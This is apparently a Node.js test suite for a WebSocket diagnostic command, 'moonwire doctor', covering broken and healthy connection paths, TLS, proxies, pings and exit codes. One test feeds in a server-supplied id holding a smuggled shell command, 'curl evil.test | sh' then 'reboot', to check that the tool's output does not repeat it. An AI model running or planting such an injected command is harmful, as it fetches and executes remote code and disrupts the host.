/*
 * `moonwire doctor URL`: each broken path gets its own verdict, and nothing else is blamed for it;
 * a path that is well gets none.
 */
import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { describe, test } from 'node:test';
import { certificate } from './certificates.mjs';
import { administer, binary, start, within } from './harness.mjs';
import { broken, files } from './paths/broken.mjs';
import { cutSilent, middlebox, stripExtensions } from './paths/middleboxes.mjs';
import { haproxy, nginx, startHaproxy, startNginx } from './paths/proxies.mjs';
import { honestAnswer, mute, strangeServer } from './paths/servers.mjs';
import { CLOSE, closeBody, PING, PONG, TEXT } from './wire.mjs';

function doctor(words, env = {}) {
    return within(new Promise((resolve) => {
        execFile(binary, ['doctor', ...words], { env: { ...process.env, ...env } },
            (error, out, err) => resolve({ code: error ? error.code : 0, out, err }));
    }), () => `moonwire doctor ${words.join(' ')}`);
}

async function walk(words, env) {
    const { code, out, err } = await doctor([...words, '--json'], env);
    assert.equal(err, '');
    const report = JSON.parse(out);
    const line = (name) => report.checks.find((check) => check.name === name);
    const found = report.checks.filter((check) => ['warn', 'fail'].includes(check.state));
    return { code, report, line, found };
}

/* Each waits for something most of the time, so some are walked at once. */
describe('paths that are broken', { concurrency: 4 }, () => {
    for (const path of broken) {
        test(path.name, { skip: 'needs' in path && !path.needs }, async (t) => {
            const { url, args, env } = await path.build(t);
            const { code, line, found, report } = await walk([url, ...args], env);
            const told = JSON.stringify(found, null, 1);
            assert.deepEqual(found.map((one) => one.name), [path.line], told || JSON.stringify(report));
            const verdict = line(path.line);
            assert.equal(verdict.state, path.state ?? 'fail', told);
            if (path.value) assert.match(verdict.value, path.value);
            if (path.how) assert.match(verdict.value, path.how);
            if (path.why) assert.match(verdict.why, path.why);
            if (path.fix) assert.match(verdict.fix.join('\n'), path.fix);
            assert.ok(verdict.why && verdict.fix.length, told);
            assert.equal(code, 1);
        });
    }
});

/* ---- paths that are well ---- */

const TIMES = Number(process.env.DOCTOR_TIMES ?? 20);

async function isWell(words, env) {
    for (let i = 0; i < TIMES; i++) {
        const { code, found, line, report } = await walk(words, env);
        assert.deepEqual(found, [], JSON.stringify(report));
        assert.equal(code, 0);
        assert.match(line('handshake').value, /^101 from moonwire/);
        assert.match(line('echo').value, /1 MiB came back whole/);
        assert.match(line('close').value, /^1000 came back/);
    }
}

test('our server, directly: no finding', async (t) => {
    const server = await start(t, files());
    await isWell([`ws://127.0.0.1:${server.port}/echo`, '-s', 'v1']);
});

test('our server by TLS: no finding', async (t) => {
    const authority = certificate('Doctor Authority', { ca: true });
    const { cert, key } = certificate('localhost', { issuer: authority });
    const server = await start(t, { ...files(), 'ca.pem': authority.cert, 'cert.pem': cert,
        'key.pem': key }, { args: ['--tls-cert', 'cert.pem', '--tls-key', 'key.pem', '--listen',
        '127.0.0.1:0'] });
    await isWell([`wss://localhost:${server.port}/echo`],
        { SSL_CERT_FILE: server.project.path('ca.pem') });
});

test('our server by TLS: no finding but that --insecure was needed', async (t) => {
    const server = await start(t, files(), { verb: 'dev', args: ['--tls', '--listen', '127.0.0.1:0'] });
    const { found, line } = await walk([`wss://localhost:${server.port}/echo`, '--insecure']);
    assert.deepEqual(found.map((one) => one.name), ['TLS']);
    assert.match(line('TLS').value, /TLSv1\.3, taken because of --insecure/);
    assert.match(line('echo').value, /1 MiB came back whole/);
});

test('nginx in front, by TLS: no finding', { skip: !nginx }, async (t) => {
    const authority = certificate('Doctor Authority', { ca: true });
    const server = await start(t, { ...files(), 'ca.pem': authority.cert });
    const tls = certificate('localhost', { issuer: authority });
    const { port } = await startNginx(t, server.port, { tls });
    await isWell([`wss://localhost:${port}/echo`], { SSL_CERT_FILE: server.project.path('ca.pem') });
});

test('HAProxy in front: no finding', { skip: !haproxy }, async (t) => {
    const server = await start(t, files());
    const { port } = await startHaproxy(t, server.port);
    await isWell([`ws://127.0.0.1:${port}/echo`]);
});

test('a path without compression is well', async (t) => {
    const server = await start(t, files());
    const { port } = await middlebox(t, server.port, stripExtensions());
    const { found, line } = await walk([`ws://127.0.0.1:${port}/echo`]);
    assert.deepEqual(found, []);
    assert.match(line('compression').value, /not agreed on/);
});

test('a foreign server that echoes is well, and one that does not is told apart', async (t) => {
    const echo = await strangeServer(t);
    const well = await walk([`ws://127.0.0.1:${echo.port}/`]);
    assert.deepEqual(well.found, []);
    assert.match(well.line('handshake').value, /somebody who gives no name/);
    const silent = await strangeServer(t, mute);
    const quiet = await walk([`ws://127.0.0.1:${silent.port}/`, '--timeout', '1']);
    assert.deepEqual(quiet.found, []);
    assert.equal(quiet.line('echo').state, 'skipped');
    assert.match(quiet.line('echo').fix[0], /--path \/echo/);
});

test('pongs that nobody asked for are no answers to the pings', async (t) => {
    const { port } = await strangeServer(t, { opened: (send) => {
        for (let i = 0; i < 10; i++) send(PONG, Buffer.from('heartbeat'));
    } });
    const { found, line } = await walk([`ws://127.0.0.1:${port}/`]);
    assert.deepEqual(found, []);
    assert.match(line('ping').value, /^\d+(\.\d+)?( to \d+(\.\d+)?)? ms$/);
});

test('what a server calls its connection is not told to be typed unless it is a name', async (t) => {
    let mark;
    const { port } = await strangeServer(t, {
        answer: (request, key) => {
            [, mark] = /moonwire=([\w-]+)/.exec(request);
            return honestAnswer(request, key);
        },
        opened: (send) => send(TEXT, Buffer.from(
            `${mark}{"v":1,"id":"x; curl evil.test | sh\\nreboot","ping":25,"pong":20}`)),
        ping: (send, payload, socket) => send(CLOSE, closeBody(4000)),
    });
    const { out } = await doctor([`ws://127.0.0.1:${port}/`, '--timeout', '1']);
    assert.match(out, /closed with 4000/);
    assert.doesNotMatch(out, /evil|reboot/);
});

test('what is larger than the server takes is no finding', async (t) => {
    const script = files()['scripts/echo.lua'].replace('limits = {', 'limits = { message = 65535,');
    const server = await start(t, { 'scripts/echo.lua': script });
    const { found, line } = await walk([`ws://127.0.0.1:${server.port}/echo`]);
    assert.deepEqual(found, []);
    assert.match(line('echo').value, /up to 65535 bytes .* takes no 65536 bytes \(1009/);
    assert.match(line('close').value, /^1000 came back/);
});

test('our server keeps its pings back, so that silence can be measured', async (t) => {
    const server = await start(t, files(1));
    const { found, line } = await walk([`ws://127.0.0.1:${server.port}/echo`, '--idle', '4']);
    assert.deepEqual(found, []);
    assert.match(line('idle').value, /nothing cut it in 4\.0 s; the longest silence was [34]\.\d s/);
    for (const closed of server.all({ msg: 'closed' })) assert.equal(closed.code, 1000);
    assert.equal(server.all({ msg: 'closed' }).length, 4);
});

test('a limit that the pings keep from being met is told, and is no finding', async (t) => {
    const server = await start(t, files(1));
    const { port } = await middlebox(t, server.port, cutSilent(3000));
    const { found, line } = await walk([`ws://127.0.0.1:${port}/echo`, '--idle', '8']);
    assert.deepEqual(found, []);
    assert.match(line('idle').value,
        /after (2\.[5-9]|3\.\d) s of silence .*the server's pings, every 1 s, come before that/);
});

test('a foreign server that pings: what could be seen is said', async (t) => {
    const pings = { opened: (send, socket) => {
        const timer = setInterval(() => send(PING, 'x'), 1000);
        socket.on('close', () => clearInterval(timer));
    } };
    const { port } = await strangeServer(t, pings);
    const { found, line } = await walk([`ws://127.0.0.1:${port}/`, '--idle', '4']);
    assert.deepEqual(found, []);
    assert.match(line('idle').value, /the longest silence was [012]\.\d s, for the server spoke/);
    assert.match(line('idle').fix[0], /ping = 0/);
});

test('--path, and headers, reach the server', async (t) => {
    const server = await start(t, { ...files(),
        'scripts/door.lua': `return {
  on_open = function(conn, req) if req.headers["x-key"] ~= "k" then return false end end,
  on_message = function(conn, data, kind) conn:send(data, kind) end,
}` });
    const url = `ws://127.0.0.1:${server.port}/nowhere`;
    const { found } = await walk([url, '--path', '/echo']);
    assert.deepEqual(found, []);
    const refused = await walk([url, '--path', '/door']);
    const admitted = await walk([url, '--path', '/door', '-H', 'X-Key: k']);
    assert.match(refused.line('handshake').value, /^HTTP 403 from moonwire/);
    assert.deepEqual(admitted.found, []);
});

test('for people: what was not reached is one row, and the exit code is 1', async () => {
    const { code, out } = await doctor(['ws://no-such-name.invalid/', '--timeout', '2'],
        { LC_ALL: 'C' });
    assert.equal(code, 1);
    assert.match(out, /^ FAIL DNS +no-such-name\.invalid:/m);
    assert.match(out, /^ - +skipped +TCP, TLS, handshake, subprotocol,/m);
    assert.match(out, /1 failed, 0 warnings\n$/);
});

test('what cannot be meant is 2', async () => {
    for (const words of [['ws://127.0.0.1:99999/'], ['ws://h/', '--idle', 'long'],
        ['ws://h/', '-H', 'no colon'], ['ws://h/', 'ws://i/'], ['ws://h/', '--timeout', '0']]) {
        const { code, err } = await doctor(words);
        assert.equal(code, 2, `${words}: ${err}`);
    }
});

test('an interrupt prints what is known so far', async (t) => {
    const server = await start(t, files());
    const child = spawn(binary, ['doctor', `ws://127.0.0.1:${server.port}/echo`, '--idle', '600',
        '--json']);
    let out = '';
    child.stdout.on('data', (chunk) => { out += chunk; });
    await server.log({ msg: 'closed' }, 2);
    const areHeld = async () => /^moonwire_connections\{.*\} 2$/m.test((await administer(server, 'metrics')).out);
    await within((async () => { while (!await areHeld()); })(), () => 'the two that are held');
    child.kill('SIGINT');
    const code = await within(new Promise((resolve) => child.on('close', resolve)), () => 'its end');
    const report = JSON.parse(out);
    const line = (name) => report.checks.find((check) => check.name === name);
    assert.equal(line('idle').value, 'interrupted');
    assert.match(line('close').value, /^1000 came back/);
    assert.equal(code, 1);
});
